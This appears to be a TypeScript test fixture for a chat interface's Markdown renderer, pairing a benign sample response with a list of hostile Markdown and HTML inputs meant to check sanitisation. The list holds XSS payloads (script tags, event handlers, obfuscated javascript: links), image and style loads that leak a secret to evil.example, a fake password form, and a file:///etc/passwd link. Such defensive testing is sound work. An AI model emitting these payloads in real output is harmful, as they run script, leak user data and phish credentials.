/** A response of about 300 tokens with every Markdown element. */
export const sampleMarkdown = `# A short guide

A paragraph with **strong**, *emphasised*, ~~deleted~~ and \`inline code\`, a link to
[the documentation](https://example.com/docs?a=1&amp;b=2), and an address: https://example.com/plain.

## Steps

1. Install the package.
2. Set \`API_KEY\`:
   - in the shell, or
   - in a file that is *not* committed.
3. Call the API.

- [x] written
- [ ] published
- a plain point

> A quote, with a **strong** word,
> over two lines.

| Model | Window | Note |
| --- | ---: | :-: |
| \`svc-1\` | 4,096 | chat &amp; completion |
| \`svc-code\` | 8,192 | code<br>and more |

\`\`\`js
import OpenAI from 'openai';

const client = new OpenAI({ baseURL: 'https://api.example.com/openai/v1', apiKey: process.env.API_KEY });
\`\`\`

### Afterwards

A last paragraph: 2 < 3 && 3 > 2 &copy; <b>no HTML</b>.

---
`;

/** Markdown with which a hostile model could make the page load, run or leak something, one attempt per paragraph. */
export const hostileMarkdown: readonly string[] = [
  '![pixel](https://evil.example/pixel.png?leak=secret)',
  '![][ref]',
  '[![badge](https://evil.example/badge.svg)](https://evil.example/page)',
  '<img src="https://evil.example/x.png" onerror="window.hacked = 1">',
  '<img src=x onerror=window.hacked=1>',
  '<script>window.hacked = 1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/bg) }</style>',
  '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example">',
  '<iframe src="https://evil.example/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
  '<svg onload="window.hacked = 1"><use href="https://evil.example/x.svg#x"/></svg>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>',
  '<a href="javascript:window.hacked = 1" onclick="window.hacked = 1">html link</a>',
  '<div style="background-image: url(https://evil.example/div)">styled</div>',
  '[script](javascript:window.hacked=1)',
  '[case](JaVaScRiPt:window.hacked=1)',
  '[entity](&#106;avascript:window.hacked=1)',
  '[colon](javascript&colon;window.hacked=1)',
  '[tab](java\tscript:window.hacked=1)',
  '[space](<  javascript:window.hacked=1>)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '[vbscript](vbscript:msgbox(1))',
  '[file](file:///etc/passwd)',
  '[blob](blob:https://evil.example/1)',
  '[plain](http://evil.example/plain)',
  '[relative](//evil.example/relative)',
  '[own](/api/auth/logout)',
  '[anchor](#content)',
  '[user](https://bank.example:x@evil.example/)',
  '<javascript:window.hacked=1>',
  '[title](https://evil.example/title "x\\" onmouseover=\\"window.hacked=1")',
  '[reference][ref]',
  'www.evil.example/bare and https://evil.example/bare',
  '`<img src=x onerror=window.hacked=1>`',
  '```html" onmouseover="window.hacked=1\n<script>window.hacked = 1</script>\n```',
  '| <img src=https://evil.example/t> | ![](https://evil.example/c) |\n| :-: | --- |\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |',
  '- [ ] <input autofocus onfocus="window.hacked=1">\n- ![](https://evil.example/li)',
  '> <object data="https://evil.example/object"></object>',
  '[ref]: javascript:window.hacked=1',
];
